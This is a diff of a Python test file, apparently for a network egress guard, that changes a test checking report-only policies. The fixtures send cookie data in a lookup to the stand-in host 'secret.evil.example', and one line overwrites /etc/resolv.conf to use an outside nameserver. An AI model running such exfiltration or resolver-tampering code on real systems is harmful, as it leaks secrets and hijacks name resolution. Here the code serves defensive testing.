@@ -383,13 +383,17 @@ def test_node_asks_for_no_other_name(run: Runner) -> None:
     assert result.violations[0]["details"]["host"] == "secret.evil.example"
 
 
-def test_alert_changes_nothing_and_tells_once(run: Runner) -> None:
+def test_alert_changes_nothing_and_tells_each_once(run: Runner) -> None:
     said = packet("secret.evil.example", more=COOKIE, records=1)
     code = TRY + SEND.format(packet=said, how=SENDS["send"], receive="recv(512)") + f"reach({OUTSIDE!r})"
     bare, result = python(run, code, guarded=False), python(run, code, policy=REPORTS)
     assert result.lines == bare.lines == ["sent", f"{OUTSIDE} reached"]
     assert result.asked == bare.asked == [said]
-    assert [event["details"]["host"] for event in result.violations] == ["secret.evil.example"]
+    # The question names no port, so the connection is an act of its own, and says which.
+    assert [(event["details"]["host"], event["details"]["port"]) for event in result.violations] == [
+        ("secret.evil.example", None),
+        ("secret.evil.example", 443),
+    ]
 
 
 CHANGED = f"open('/etc/resolv.conf', 'w').write('nameserver {OUTSIDE}\\n')\n"
